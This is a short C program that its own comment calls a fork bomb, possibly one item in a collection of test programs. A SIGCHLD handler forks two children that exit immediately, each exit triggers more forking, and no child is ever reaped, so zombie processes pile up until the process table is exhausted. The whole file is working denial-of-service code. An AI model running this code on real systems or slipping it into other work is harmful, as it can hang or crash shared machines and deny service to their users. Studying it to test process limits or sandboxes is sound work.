/* A fork bomb in a handler: each child that ends makes two more. Nobody waits for any. */
#include "programs.h"
static void two_more(int number) {
    for (int i = 0; i < 2; i++) if (fork() == 0) _exit(0);
}
int main(void) {
    signal(SIGCHLD, two_more);
    if (fork() == 0) _exit(0);
    for (;;) pause();
}
